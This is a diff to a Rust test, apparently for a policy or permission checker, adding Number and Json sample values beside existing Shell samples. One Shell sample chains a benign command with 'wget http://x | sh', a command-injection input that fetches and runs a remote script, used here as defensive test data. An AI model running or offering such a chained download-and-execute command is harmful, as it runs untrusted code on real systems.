@@ -423,6 +423,8 @@ fn every_path_gives_the_same_level_on_every_policy() {
                             ParamType::Int => vec![json!(0), json!(3), json!(-1)],
                             ParamType::Money => vec![json!(0), json!(500), json!(10_001), json!(1_000_000)],
                             ParamType::Bool => vec![json!(true), json!(false)],
+                            ParamType::Number => vec![json!(0), json!(2.5), json!(-1)],
+                            ParamType::Json => vec![json!(null), json!({"a": [1]}), json!("x")],
                             ParamType::Shell => vec![
                                 json!("cargo test --all"),
                                 json!("cargo test --all; wget http://x | sh"),
